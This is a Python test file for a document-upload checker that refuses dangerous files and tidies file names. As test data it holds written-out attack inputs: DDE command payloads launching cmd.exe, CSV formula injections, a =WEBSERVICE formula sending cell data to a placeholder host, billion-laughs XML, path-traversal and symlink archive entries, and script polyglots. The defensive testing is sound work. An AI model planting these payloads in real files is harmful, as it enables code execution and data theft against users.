"""The rarer animals: files that are two things at once, that unfold, fetch or start something, or lie about their name."""

import io
import stat
import zipfile

import pytest

from tests.documents import zoo
from tests.documents.test_uploads import (
    ACTIVE,
    BOMB,
    BROKEN_PDF,
    BROKEN_ZIP,
    CARRIES,
    KINDS,
    LIMIT,
    MACROS,
    OLD_OFFICE,
    UNKNOWN,
    WEB,
    ending,
)
from triwulan.documents.uploads.check import UploadRefused, check_upload, clean_name

OUTSIDE = "Berkas ini memuat templat dari luar atau mengambil isi dari luar. Simpan sebagai PDF, lalu unggah lagi."
OLE = "Berkas ini memuat objek tertanam (OLE), yang dapat menjalankan program. Simpan sebagai PDF, lalu unggah lagi."
DDE = "Berkas ini memuat tautan DDE, yang dapat menjalankan program. Simpan sebagai PDF, lalu unggah lagi."
FORMULAS = "Berkas CSV ini memuat rumus, yang dapat menjalankan program. Simpan nilainya saja, lalu unggah lagi."
ENTITIES = (
    "Berkas ini memuat definisi XML yang dapat mengembang tanpa batas. Simpan ulang dari aplikasinya, atau sebagai PDF."
)
OFFICE_AND_PDF = "Berkas ini dokumen Office dan PDF sekaligus. Simpan ulang dari aplikasinya, lalu unggah lagi."
LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
# An archive whose parts are one byte stream, named many times: little on disk, all of it again for each name.
MANY_TIMES = zoo.openxml("docx", {f"word/{at}.xml": b"0" * 6_000_000 for at in range(3)})


def related(kind: str, target: str) -> str:
    return f'<Relationships><Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'


def docx(relations: str = "", body: str = "<x/>") -> bytes:
    return zoo.openxml("docx", {"word/_rels/document.xml.rels": relations, "word/footer1.xml": body})


def instructions(*pieces: str) -> str:
    return "<w:p>" + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + "</w:p>"


def linked_part() -> bytes:
    out = io.BytesIO(zoo.openxml("docx"))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/tautan")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


TURNED_AWAY = [
    ("arsip-dahulu.pdf", zoo.zipped({"a.txt": "x"}) + zoo.pdf(), BROKEN_ZIP),
    ("surat.docx", zoo.openxml("docx") + zoo.pdf(), BROKEN_ZIP),
    ("surat.docx", zoo.openxml("docx", {"%PDF-1.7": ""}), OFFICE_AND_PDF),
    ("gambar.gif", b"GIF89a\x01\0\x01\0\0\0\0;alert(1)", UNKNOWN),
    ("gambar.gif", b"GIF89a/*=1;*/alert(1)", KINDS),
    ("foto.jpg", b"GIF89a/*=1;*/alert(1)", ending("jpg", "TXT", "txt")),
    ("laporan.pdf", b"  <html><script>alert(1)</script></html>%PDF-1.7 %%EOF", WEB),
    ("gambar.svg", b"\xef\xbb\xbf<svg><foreignObject/></svg>", WEB),
    ("ledakan.docx", docx(body=LAUGHS), ENTITIES),
    ("ledakan.docx", docx(body=LAUGHS.encode("utf-16").decode("latin-1")), ENTITIES),
    ("ledakan.ods", zoo.opendocument("ods", {"styles.xml": LAUGHS}), ENTITIES),
    ("ledakan.docx", MANY_TIMES, BOMB),
    ("naik.docx", zoo.openxml("docx", {"../../etc/cron.d/x": "x"}), BROKEN_ZIP),
    ("naik.docx", zoo.openxml("docx", {"/etc/passwd": "x"}), BROKEN_ZIP),
    ("naik.docx", zoo.openxml("docx", {"C:/Windows/x.dat": "x"}), BROKEN_ZIP),
    ("tautan.docx", linked_part(), BROKEN_ZIP),
    ("makro.docx", zoo.openxml("docx", {"word/VBAPROJECT.BIN": b"\0"}), MACROS),
    ("makro.xlsx", zoo.openxml("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}), MACROS),
    ("kendali.docx", zoo.openxml("docx", {"word/activeX/activeX1.xml": "<x/>"}), MACROS),
    ("ole.docx", zoo.openxml("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), OLE),
    ("luar.docx", docx(related("oleObject", "x.bin")), OUTSIDE),
    ("luar.docx", docx(related("frame", "halaman.htm")), OUTSIDE),
    ("luar.docx", docx(related("image", "https://contoh.example/piksel.png")), OUTSIDE),
    ("luar.docx", docx(related("image", r"\\server\bagi\piksel.png")), OUTSIDE),
    ("luar.docx", docx(related("image", "file://server/bagi/piksel.png")), OUTSIDE),
    ("luar.xlsx", zoo.openxml("xlsx", {"xl/_rels/a.rels": related("externalLinkPath", "http://x/a.xlsx")}), OUTSIDE),
    ("dde.docx", docx(body=instructions("DDEAUTO c:\\\\windows\\\\cmd.exe")), DDE),
    ("dde.docx", docx(body=instructions("DDE", "AUTO cmd")), DDE),
    ("dde.docx", docx(body='<w:fldSimple w:instr="DDE cmd /k calc"/>'), DDE),
    ("dde.xlsx", zoo.openxml("xlsx", {"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}), DDE),
    ("dde.ods", zoo.zipped(
        {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<office:dde-source/>"}
    ), DDE),
    ("data.csv", b"a;b\n1;=cmd|'/c calc'!A1\n", FORMULAS),
    ("data.csv", b'a,b\n"@SUM(1+1)*cmd|\' /C calc\'!A0",2\n', FORMULAS),
    ("data.csv", b"a\tb\n-2+3+cmd|' /C calc'!A0\t1\n", FORMULAS),
    ("data.csv", '=WEBSERVICE("https://contoh.example/"&A1);1\n'.encode("utf-16"), FORMULAS),
    ("sandi.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), OLD_OFFICE),
    ("berkas.pdf", zoo.pdf_opening(zoo.action("GoToE", T="x")), ACTIVE),
    ("berkas.pdf", zoo.pdf_opening(zoo.action("ImportData", F="x.fdf")), ACTIVE),
    ("berkas.pdf", zoo.pdf() + b"9 0 obj<</Type/EmbeddedFile>>endobj\n", CARRIES),
    ("potong.pdf", zoo.pdf()[:-6] + b"\n", BROKEN_PDF),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "sentence"), TURNED_AWAY)
def test_a_rarer_animal_is_told_why_and_what_to_do(name: str, content: bytes, sentence: str) -> None:
    with pytest.raises(UploadRefused) as refused:
        check_upload(name, content, LIMIT)
    assert refused.value.sentence == sentence


WELCOME = [
    ("surat.docx", docx(related("hyperlink", "https://contoh.example"), instructions("PAGE", "MERGEFIELD Alamat"))),
    ("data.xlsx", zoo.openxml("xlsx", {"xl/_rels/a.rels": related("externalLinkPath", "file:///C:/Data/tahun.xlsx")})),
    ("grafik.docx", zoo.openxml("docx", {"word/embeddings/Lembar1.xlsx": zoo.openxml("xlsx")})),
    ("data.csv", b'kode;nilai;ket\n="0012";-5;+62 811 (kantor)\n@dinas;- tidak ada (nihil);1-2\n'),
]


@pytest.mark.parametrize(("name", "content"), WELCOME)
def test_what_only_looks_like_one_is_taken(name: str, content: bytes) -> None:
    assert check_upload(name, content, LIMIT).content == content


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("CON.pdf", "_CON.pdf"),
        ("nul", "_nul"),
        ("Lpt1.tar.pdf", "_Lpt1.tar.pdf"),
        ("Konsep.pdf", "Konsep.pdf"),
        ("/etc/passwd", "passwd"),
        ("\\\\server\\bagi\\a.pdf", "a.pdf"),
        ("a.pdf\x00.exe", "a.pdf.exe"),
        ("laporan.pdf. . .", "laporan.pdf"),
        ("laporan\u2066fdp\u2069.exe", "laporanfdp.exe"),
        ("Cafe\u0301.pdf", "Café.pdf"),
        ("字" * 200 + ".pdf", "字" * 78 + ".pdf"),
        ("\U0001f4c4" * 200 + ".pdf", "\U0001f4c4" * 59 + ".pdf"),
    ],
)
def test_a_name_fits_every_disk(given: str, shown: str) -> None:
    assert clean_name(given) == shown
    assert clean_name(shown) == shown
